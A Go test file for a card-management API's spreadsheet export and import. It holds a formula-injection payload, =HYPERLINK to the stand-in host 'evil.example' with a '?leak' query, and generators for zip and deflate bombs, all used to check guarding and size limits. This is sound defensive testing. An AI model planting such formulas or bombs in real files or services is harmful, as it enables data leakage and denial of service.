package api_test

import (
	"archive/zip"
	"bytes"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	mrand "math/rand/v2"
	"net/http"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"lintel/consensus/state/voucher"
	"lintel/internal/testnode"
	"lintel/voucherkey"
)

const xlsxType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

var sheetDate = regexp.MustCompile(`^\d\d-\d\d-\d{4} \d\d:\d\d$`)

// ieFixture is one node with a site "London", its reader configuration
// "London" and credits to send cards.
type ieFixture struct {
	c       *testnode.Client
	account string
	london  string
}

func newIEFixture(t *testing.T) *ieFixture {
	t.Helper()
	n := testnode.Start(t, "ie1")
	testnode.WaitReady(t, n)
	f := &ieFixture{c: testnode.Login(t, n)}
	var sess struct{ Account struct{ ID, Name string } }
	ieDecode(t, f.c.Do(t, "GET", "/api/v1/session", "", nil), &sess)
	f.account = sess.Account.Name
	key, _ := voucherkey.GenerateKey()
	expect(t, f.c.Do(t, "POST", "/api/v1/credits/issuers?name=integrator", string(voucher.MarshalPublicKey(key.Public())), nil), 201, "")
	_, text := voucher.Issue(key, sess.Account.ID, "PO-ie", 100, time.Now())
	expect(t, f.c.Do(t, "POST", "/api/v1/credits/vouchers", string(text), nil), 200, "")
	f.london = f.site(t, "London")
	expect(t, f.c.Do(t, "POST", "/api/v1/sites/"+f.london+"/reader-configs", "lintel-reader-config 1\nname = London\n", nil), 201, "")
	return f
}

func (f *ieFixture) site(t *testing.T, name string) string {
	t.Helper()
	var s struct{ ID string }
	r := f.c.Do(t, "POST", "/api/v1/sites", `{"name":"`+name+`"}`, nil)
	expect(t, r, 201, "")
	ieDecode(t, r, &s)
	return s.ID
}

type ieCard struct {
	ID           string
	Kind         string
	Status       string
	FirstName    string `json:"first_name"`
	LastName     string `json:"last_name"`
	Email        string
	Phone        string
	ReaderConfig string `json:"reader_config"`
	PrivateID    string `json:"private_id"`
	CardholderID string `json:"cardholder_id"`
}

// cards lists a site's cards by last name.
func (f *ieFixture) cards(t *testing.T, site string) []ieCard {
	t.Helper()
	var pg struct{ Items []ieCard }
	ieDecode(t, f.c.Do(t, "GET", "/api/v1/sites/"+site+"/cards?limit=1000", "", nil), &pg)
	return pg.Items
}

func (f *ieFixture) post(t *testing.T, site, contentType string, body []byte, header map[string]string) testnode.Response {
	t.Helper()
	h := map[string]string{"Content-Type": contentType}
	for k, v := range header {
		h[k] = v
	}
	return f.c.Do(t, "POST", "/api/v1/sites/"+site+"/cards/import", string(body), h)
}

func ieDecode(t testing.TB, r testnode.Response, v any) {
	t.Helper()
	if err := json.Unmarshal([]byte(r.Body), v); err != nil {
		t.Fatalf("decode %d %s: %v", r.StatusCode, r.Body, err)
	}
}

// download gets an export and opens it as a workbook.
func download(t *testing.T, c *testnode.Client, path string) *excelize.File {
	t.Helper()
	r := c.Do(t, "GET", path, "", nil)
	if r.StatusCode != 200 {
		t.Fatalf("GET %s: %d %s", path, r.StatusCode, r.Body)
	}
	if ct := r.Header.Get("Content-Type"); ct != xlsxType {
		t.Fatalf("GET %s: Content-Type %q", path, ct)
	}
	if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, "attachment;") || !strings.Contains(cd, ".xlsx") {
		t.Fatalf("GET %s: Content-Disposition %q", path, cd)
	}
	x, err := excelize.OpenReader(strings.NewReader(r.Body))
	if err != nil {
		t.Fatalf("GET %s: not an xlsx: %v", path, err)
	}
	t.Cleanup(func() { x.Close() })
	return x
}

// grid is the first sheet as rows of cells.
func grid(t *testing.T, x *excelize.File) [][]string {
	t.Helper()
	rows, err := x.GetRows(x.GetSheetList()[0])
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func cellsEqual(t *testing.T, what string, got []string, want ...string) {
	t.Helper()
	for len(got) < len(want) {
		got = append(got, "")
	}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("%s:\n got %q\nwant %q", what, got, want)
	}
}

// checkBlock checks the header block of figures 88–93.
func checkBlock(t *testing.T, g [][]string, kind, company, site string) {
	t.Helper()
	if len(g) < 6 {
		t.Fatalf("no header block: %q", g)
	}
	cellsEqual(t, "row 1", g[0], "", kind)
	cellsEqual(t, "row 2", g[1], "", "Company Name", company)
	cellsEqual(t, "row 3", g[2], "", "Site Name", site)
	if len(g[3]) != 3 || g[3][1] != "Date" || !sheetDate.MatchString(g[3][2]) {
		t.Fatalf("row 4: %q", g[3])
	}
	at, _ := time.ParseInLocation("02-01-2006 15:04", g[3][2], time.UTC)
	if d := time.Since(at); d < -time.Minute || d > 2*time.Minute {
		t.Fatalf("export date %s is not now", g[3][2])
	}
	if len(g[4]) != 0 {
		t.Fatalf("row 5 is not empty: %q", g[4])
	}
}

// makeXLSX writes rows to a workbook from row 1, as a person would.
func makeXLSX(t testing.TB, rows ...[]any) []byte {
	t.Helper()
	x := excelize.NewFile()
	defer x.Close()
	for i, row := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := x.SetSheetRow("Sheet1", cell, &row); err != nil {
			t.Fatal(err)
		}
	}
	var b bytes.Buffer
	if _, err := x.WriteTo(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

var importHeader = []any{"First Name", "Last Name", "Email", "Phone Number", "Blue Mobile ID Configuration", "Private ID/CSN"}

const hyperlink = `=HYPERLINK("http://evil.example/?leak","Click")`

func TestExportImport(t *testing.T) {
	f := newIEFixture(t)
	c := f.c

	// Four cards in London: sent, activated, created (with a formula for a
	// name) and a device-id card.
	mk := func(body string) string {
		var card struct{ ID string }
		r := c.Do(t, "POST", "/api/v1/sites/"+f.london+"/cards", body, nil)
		expect(t, r, 201, "")
		ieDecode(t, r, &card)
		return card.ID
	}
	sent := mk(`{"first_name":"Aymerick","last_name":"BRADLEY","email":"aymerick@stid.com","phone":"33442126060","reader_config":"London","private_id":"12356479"}`)
	active := mk(`{"first_name":"Frederick","last_name":"BLACKLEDGE","email":"fred@stid.com","phone":"+441234567890","reader_config":"London","private_id":"785612"}`)
	formula, _ := json.Marshal(hyperlink)
	mk(`{"first_name":` + string(formula) + `,"last_name":"GREEN","email":"claudia@stid.com","reader_config":"London","private_id":"127496"}`)
	mk(`{"first_name":"Mary","last_name":"FOSTER","email":"mary@stid.com","phone":"4142434445"}`)
	expect(t, c.Do(t, "POST", "/api/v1/cards/"+sent+"/send", "", nil), 200, "")
	expect(t, c.Do(t, "POST", "/api/v1/cards/"+active+"/send", "", nil), 200, "")
	var outbox struct {
		Items []struct{ Body, CardID string }
	}
	ieDecode(t, c.Do(t, "GET", "/api/v1/outbox", "", nil), &outbox)
	for _, m := range outbox.Items {
		if link := regexp.MustCompile(`/activate/(\S+)`).FindStringSubmatch(m.Body); link != nil && strings.Contains(m.Body, "Frederick") {
			phone, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
			der, _ := x509.MarshalPKIXPublicKey(&phone.PublicKey)
			expect(t, c.Do(t, "POST", "/activate/"+link[1], `{"public_key":"`+base64.StdEncoding.EncodeToString(der)+`"}`, nil), 200, "")
		}
	}

	t.Run("card export, figure 93", func(t *testing.T) {
		g := grid(t, download(t, c, "/api/v1/sites/"+f.london+"/cards/export.xlsx"))
		checkBlock(t, g, "Export", f.account, "London")
		cellsEqual(t, "row 6", g[5], "First Name", "Last Name", "Email", "Phone Number", "Blue Mobile ID Configuration", "Private ID/CSN")
		if len(g) != 10 {
			t.Fatalf("%d rows, want 6 + 4 cards: %q", len(g), g)
		}
		cellsEqual(t, "row 7", g[6], "Frederick", "BLACKLEDGE", "fred@stid.com", "'+441234567890", "London", "785612")
		cellsEqual(t, "row 8", g[7], "Aymerick", "BRADLEY", "aymerick@stid.com", "33442126060", "London", "12356479")
		cellsEqual(t, "row 9", g[8], "Mary", "FOSTER", "mary@stid.com", "4142434445", "", "")
		cellsEqual(t, "row 10", g[9], "'"+hyperlink, "GREEN", "claudia@stid.com", "", "London", "127496")
	})

	t.Run("card report, figure 92", func(t *testing.T) {
		g := grid(t, download(t, c, "/api/v1/sites/"+f.london+"/cards/report.xlsx"))
		checkBlock(t, g, "Report", f.account, "London")
		cellsEqual(t, "row 6", g[5], "First Name", "Last Name", "Email", "Blue Mobile ID Configuration", "Private ID/CSN",
			"VCard Creation Date", "VCard Activation Date", "VCard Revoked Date", "Status")
		status := map[string]string{}
		for _, row := range g[6:] {
			for len(row) < 9 {
				row = append(row, "")
			}
			status[row[1]] = row[8]
			if !sheetDate.MatchString(row[5]) || row[7] != "" {
				t.Fatalf("dates of %q", row)
			}
			if activated := row[6] != ""; activated != (row[1] == "BLACKLEDGE") || (activated && !sheetDate.MatchString(row[6])) {
				t.Fatalf("activation date of %q", row)
			}
		}
		want := map[string]string{"BLACKLEDGE": "Activated", "BRADLEY": "Created and Email Sent", "FOSTER": "Created", "GREEN": "Created"}
		if fmt.Sprint(status) != fmt.Sprint(want) {
			t.Fatalf("statuses %v, want %v", status, want)
		}
		if g[9][0] != "'"+hyperlink {
			t.Fatalf("formula not guarded: %q", g[9][0])
		}
	})

	t.Run("filters of the list", func(t *testing.T) {
		g := grid(t, download(t, c, "/api/v1/sites/"+f.london+"/cards/report.xlsx?status=activated"))
		if len(g) != 7 || g[6][1] != "BLACKLEDGE" {
			t.Fatalf("status filter: %q", g[6:])
		}
		g = grid(t, download(t, c, "/api/v1/sites/"+f.london+"/cards/export.xlsx?q=claudia"))
		if len(g) != 7 || g[6][1] != "GREEN" {
			t.Fatalf("search: %q", g[6:])
		}
		expect(t, c.Do(t, "GET", "/api/v1/sites/nope/cards/export.xlsx", "", nil), 404, "site_not_found")
		anon := &testnode.Client{Base: c.Base, HTTP: http.DefaultClient}
		expect(t, anon.Do(t, "GET", "/api/v1/sites/"+f.london+"/cards/report.xlsx", "", nil), 401, "unauthenticated")
	})

	t.Run("site list, figure 47", func(t *testing.T) {
		g := grid(t, download(t, c, "/api/v1/sites/export.xlsx"))
		cellsEqual(t, "row 1", g[0], "Dashboard - Customer Site List")
		cellsEqual(t, "row 2", g[1], "Customer Site Name", "Creation Date", "Number of Configurations", "Number of Users", "Number of Configurators")
		if len(g) != 3 || g[2][0] != "London" || !sheetDate.MatchString(g[2][1]) || strings.Join(g[2][2:], ",") != "1,4,0" {
			t.Fatalf("sites: %q", g[2:])
		}
	})

	t.Run("outbox", func(t *testing.T) {
		g := grid(t, download(t, c, "/api/v1/outbox/export.xlsx"))
		cellsEqual(t, "row 1", g[0], "", "Export")
		cellsEqual(t, "row 2", g[1], "", "Company Name", f.account)
		cellsEqual(t, "row 5", g[4], "To", "Subject", "Status", "Attempts", "Created", "Sent")
		if len(g) != 7 {
			t.Fatalf("outbox rows: %q", g)
		}
		for _, row := range g[5:] {
			if !strings.Contains("Queued Sent Failed", row[2]) || !sheetDate.MatchString(row[4]) {
				t.Fatalf("outbox row %q", row)
			}
		}
	})

	t.Run("import xlsx", func(t *testing.T) {
		paris := f.site(t, "Paris")
		file := makeXLSX(t, importHeader,
			[]any{"Paul", "DURAND", "Paul@STID.com", "0102030405", "London", "1001"},
			[]any{"Simon", "BLACKLEDGE", "simon@stid.com", nil, "London", 1002},
			nil, // an empty row is skipped
			[]any{" Mary ", "BRADLEY", "mary@stid.com"})
		r := f.post(t, paris, xlsxType, file, nil)
		expect(t, r, 201, "")
		if strings.TrimSpace(r.Body) != `{"created":3}` {
			t.Fatalf("answer %s", r.Body)
		}
		got := f.cards(t, paris)
		if len(got) != 3 {
			t.Fatalf("cards %+v", got)
		}
		want := []ieCard{
			{Kind: "private_id", Status: "created", FirstName: "Simon", LastName: "BLACKLEDGE", Email: "simon@stid.com", ReaderConfig: "London", PrivateID: "1002"},
			{Kind: "device_id", Status: "created", FirstName: "Mary", LastName: "BRADLEY", Email: "mary@stid.com"},
			{Kind: "private_id", Status: "created", FirstName: "Paul", LastName: "DURAND", Email: "paul@stid.com", Phone: "0102030405", ReaderConfig: "London", PrivateID: "1001"},
		}
		holders := map[string]bool{}
		for i, g := range got {
			if g.ID == "" || g.CardholderID == "" || holders[g.CardholderID] {
				t.Fatalf("card %d has no id or shares a cardholder: %+v", i, g)
			}
			holders[g.CardholderID] = true
			g.ID, g.CardholderID = "", ""
			if g != want[i] {
				t.Fatalf("card %d:\n got %+v\nwant %+v", i, g, want[i])
			}
		}
	})

	t.Run("import csv", func(t *testing.T) {
		rome := f.site(t, "Rome")
		csv := "\ufeffFirst Name;Last Name;E-mail;Phone Number;Blue Mobile ID Configuration;Private ID/CSN\r\n" +
			"\"Jean; Jr\";Dupont;jean@example.com;'+33 6 12;London;0042\r\n" +
			"\r\n" +
			"Anne;Martin;anne@example.com\r\n"
		r := f.post(t, rome, "text/csv; charset=utf-8", []byte(csv), nil)
		expect(t, r, 201, "")
		got := f.cards(t, rome)
		if len(got) != 2 || got[0].FirstName != "Jean; Jr" || got[0].PrivateID != "0042" || got[0].Phone != "+33 6 12" ||
			got[1].LastName != "Martin" || got[1].Kind != "device_id" {
			t.Fatalf("cards %+v", got)
		}
	})

	t.Run("an export imports into another site", func(t *testing.T) {
		r := c.Do(t, "GET", "/api/v1/sites/"+f.london+"/cards/export.xlsx", "", nil)
		berlin := f.site(t, "Berlin")
		expect(t, f.post(t, berlin, xlsxType, []byte(r.Body), nil), 201, "")
		src, dst := f.cards(t, f.london), f.cards(t, berlin)
		if len(src) != 4 || len(dst) != 4 {
			t.Fatalf("%d cards from %d", len(dst), len(src))
		}
		for i := range src {
			s, d := src[i], dst[i]
			if d.FirstName != s.FirstName || d.LastName != s.LastName || d.Email != s.Email || d.Phone != s.Phone ||
				d.ReaderConfig != s.ReaderConfig || d.PrivateID != s.PrivateID || d.Kind != s.Kind || d.Status != "created" {
				t.Fatalf("card %d:\n got %+v\nfrom %+v", i, d, s)
			}
		}
		if dst[3].FirstName != hyperlink {
			t.Fatalf("the guard did not come off: %q", dst[3].FirstName)
		}
	})

	t.Run("two bad rows refuse the whole file", func(t *testing.T) {
		madrid := f.site(t, "Madrid")
		file := makeXLSX(t, importHeader,
			[]any{"A", "One", "a1@example.com", "", "London", "501"}, // row 2
			[]any{"B", "Two", "b2@example.com", "", "London", "502"}, // row 3
			[]any{"C", "", "c3@example.com", "", "London", "503"},    // row 4: no last name
			[]any{"D", "Four", "d4@example.com", "", "London", "504"},
			[]any{"E", "Five", "e5@example.com", "", "London", "505"},
			[]any{"F", "Six", "f6@example.com", "", "London", "502"}, // row 7: row 3's private id
			[]any{"G", "Seven", "g7@example.com", "", "", ""})
		r := f.post(t, madrid, xlsxType, file, nil)
		expect(t, r, 400, "invalid_rows")
		var body struct {
			Error struct{ Message string }
			Rows  []struct {
				Row                  int
				Field, Code, Message string
			}
		}
		ieDecode(t, r, &body)
		if body.Error.Message != "2 rows are invalid; nothing was imported" || len(body.Rows) != 2 ||
			body.Rows[0].Row != 4 || body.Rows[0].Field != "last_name" || body.Rows[0].Code != "required" ||
			body.Rows[1].Row != 7 || body.Rows[1].Code != "duplicate_private_id" || !strings.Contains(body.Rows[1].Message, "row 3") {
			t.Fatalf("answer %s", r.Body)
		}
		if n := len(f.cards(t, madrid)); n != 0 {
			t.Fatalf("%d cards created", n)
		}
	})

	t.Run("text bounds refuse the whole file", func(t *testing.T) {
		var b strings.Builder
		b.WriteString("First Name,Last Name,Email,Phone Number,Blue Mobile ID Configuration,Private ID/CSN\n")
		for i := range 1500 {
			phone := "123"
			if i == 1201 {
				phone = "12\x003" // a NUL: past the first batch of 1000
			}
			fmt.Fprintf(&b, "N%d,Bound,n%d@example.com,%s,London,%d\n", i, i, phone, 900000+i)
		}
		before := len(f.cards(t, f.london))
		r := f.post(t, f.london, "text/csv", []byte(b.String()), nil)
		expect(t, r, 400, "invalid_rows")
		if !strings.Contains(r.Body, `"row":1203`) || !strings.Contains(r.Body, "NUL") {
			t.Fatalf("the refusal does not name row 1203 and its NUL: %s", r.Body)
		}
		if n := len(f.cards(t, f.london)); n != before {
			t.Fatalf("%d cards imported from a refused file", n-before)
		}
	})

	t.Run("rows checked against the registry", func(t *testing.T) {
		csv := "First Name,Last Name,Email,Blue Mobile ID Configuration,Private ID/CSN\n" +
			"X,Dup,x@example.com,London,127496\n" + // taken by GREEN
			"Y,Unknown,y@example.com,Tokyo,1\n" +
			"Z,Mail,not-an-address,London,77\n" +
			"W,Pid,w@example.com,London,12a\n" +
			"V,Fine,v@example.com,London,78\n"
		r := f.post(t, f.london, "text/csv", []byte(csv), nil)
		expect(t, r, 400, "invalid_rows")
		for _, want := range []string{`"row":2,"field":"private_id","code":"duplicate_private_id"`, `"row":3,"field":"reader_config","code":"reader_config_not_found"`,
			`"row":4,"field":"email","code":"invalid_value"`, `"row":5,"field":"private_id","code":"invalid_value"`, "4 rows are invalid"} {
			if !strings.Contains(r.Body, want) {
				t.Fatalf("no %s in %s", want, r.Body)
			}
		}
		if n := len(f.cards(t, f.london)); n != 4 {
			t.Fatalf("%d cards in London", n)
		}
	})

	t.Run("a retried import does not double", func(t *testing.T) {
		oslo := f.site(t, "Oslo")
		file := makeXLSX(t, importHeader,
			[]any{"A", "One", "a@example.com", "", "London", "9001"},
			[]any{"B", "Two", "b@example.com", "", "London", "9002"})
		h := map[string]string{"Idempotency-Key": "import-oslo-1"}
		for range 2 {
			r := f.post(t, oslo, xlsxType, file, h)
			expect(t, r, 201, "")
			if strings.TrimSpace(r.Body) != `{"created":2}` {
				t.Fatalf("answer %s", r.Body)
			}
		}
		if n := len(f.cards(t, oslo)); n != 2 {
			t.Fatalf("%d cards after a retry", n)
		}
		// Without the key the same file is a new import, refused as duplicates.
		expect(t, f.post(t, oslo, xlsxType, file, nil), 400, "invalid_rows")
	})

	t.Run("limits and garbage", func(t *testing.T) {
		empty := f.site(t, "Empty")
		for name, tc := range map[string]struct {
			ct, body     string
			status       int
			code, phrase string
		}{
			"empty":          {xlsxType, "", 400, "empty_file", "empty"},
			"json":           {"application/json", `{"cards":[]}`, 400, "unsupported_file", "text/csv"},
			"broken zip":     {xlsxType, "PK\x03\x04garbage", 400, "malformed_file", "zip"},
			"not a zip":      {xlsxType, "First Name,Last Name,Email\n", 400, "malformed_file", "xlsx"},
			"old xls":        {"application/vnd.ms-excel", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest", 400, "unsupported_file", ".xlsx"},
			"no header":      {"text/csv", "a,b,c\n1,2,3\n", 400, "missing_header", "First Name"},
			"no email":       {"text/csv", "First Name,Last Name\nA,B\n", 400, "missing_column", "Email"},
			"twice":          {"text/csv", "First Name,Last Name,Email,Email\n", 400, "duplicate_column", "Email"},
			"header only":    {"text/csv", "First Name,Last Name,Email\n", 400, "empty_file", "no cards"},
			"bad quote":      {"text/csv", "First Name,Last Name,Email\nA,\"B,c@d.e\n", 400, "malformed_file", "line"},
			"not utf-8":      {"text/csv", "First Name,Last Name,Email\nJos\xe9,B,c@d.e\n", 400, "invalid_encoding", "UTF-8"},
			"zip bomb":       {xlsxType, string(zipBomb(t)), 413, "file_too_large", "MiB"},
			"deflate bomb":   {xlsxType, string(bigCell(t, 100<<20, false)), 413, "file_too_large", "unread"},
			"one huge cell":  {xlsxType, string(bigCell(t, 1<<20, true)), 413, "file_too_large", "KiB of text"},
			"cell with >s":   {xlsxType, string(bigCell(t, 1<<20, true, true)), 413, "file_too_large", "KiB of text"},
			"too many rows":  {"text/csv", "First Name,Last Name,Email\n" + strings.Repeat("a,b,c@d.e\n", 100_001), 413, "too_many_rows", "100000"},
			"no sheet found": {xlsxType, string(makeXLSX(t, []any{"Name", "Mail"})), 400, "missing_header", "header"},
		} {
			t.Run(name, func(t *testing.T) {
				r := f.post(t, empty, tc.ct, []byte(tc.body), nil)
				expect(t, r, tc.status, tc.code)
				if !strings.Contains(errorOf(t, r).Error.Message, tc.phrase) {
					t.Fatalf("message does not say %q: %s", tc.phrase, r.Body)
				}
			})
		}
		// Over 64 MiB, announced or streamed: refused without reading it all.
		for _, length := range []int64{64<<20 + 1, -1} {
			body := io.LimitReader(zeros{}, 64<<20+1)
			req, _ := http.NewRequest("POST", c.Base+"/api/v1/sites/"+empty+"/cards/import", body)
			req.ContentLength = length
			req.Header.Set("Content-Type", xlsxType)
			// 64 MiB under the race detector on a busy machine can take longer
			// than the client's usual 10 s; the answer, not the speed, is tested.
			slow := &http.Client{Jar: c.HTTP.Jar, Timeout: 2 * time.Minute}
			resp, err := slow.Do(req)
			if err != nil {
				t.Fatalf("length %d: %v", length, err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			expect(t, testnode.Response{StatusCode: resp.StatusCode, Body: string(b)}, 413, "body_too_large")
		}
		// The JSON routes keep their 1 MiB limit.
		expect(t, c.Do(t, "POST", "/api/v1/sites", `{"name":"`+strings.Repeat("x", 2<<20)+`"}`, nil), 413, "body_too_large")
		if n := len(f.cards(t, empty)); n != 0 {
			t.Fatalf("%d cards created", n)
		}
	})
}

type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// zipBomb is a workbook whose sheet says it unpacks to 1 TiB.
func zipBomb(t *testing.T) []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	data := []byte("<worksheet/>")
	w, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Store,
		CompressedSize64: uint64(len(data)), UncompressedSize64: 1 << 40})
	if err != nil {
		t.Fatal(err)
	}
	w.Write(data)
	zw.Close()
	return b.Bytes()
}

// bigCell is a whole workbook (a header row) whose sheet holds one more
// cell of size bytes: the same letter again and again (a deflate bomb:
// about 1000:1), or random letters (a sheet that packs like any other),
// with a '>' every 60 000 when gt (legal in XML text).
func bigCell(t testing.TB, size int, random bool, gt ...bool) []byte {
	t.Helper()
	plain := makeXLSX(t, importHeader)
	src, err := zip.NewReader(bytes.NewReader(plain), int64(len(plain)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range src.File {
		if f.Name != "xl/worksheets/sheet1.xml" {
			if err := zw.Copy(f); err != nil {
				t.Fatal(err)
			}
			continue
		}
		w, err := zw.CreateHeader(&zip.FileHeader{Name: f.Name, Method: zip.Deflate})
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+
			`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>First Name</t></is></c></row>`+
			`<row r="2"><c r="A2" t="inlineStr"><is><t>`)
		chunk := bytes.Repeat([]byte("A"), 1<<16)
		rng := mrand.New(mrand.NewPCG(1, 2))
		for left := size; left > 0; left -= len(chunk) {
			if random {
				for i := range chunk {
					chunk[i] = byte('a' + rng.IntN(26))
				}
			}
			if len(gt) > 0 && gt[0] {
				chunk[0] = '>'
			}
			w.Write(chunk[:min(len(chunk), left)])
		}
		io.WriteString(w, `</t></is></c></row></sheetData></worksheet>`)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}
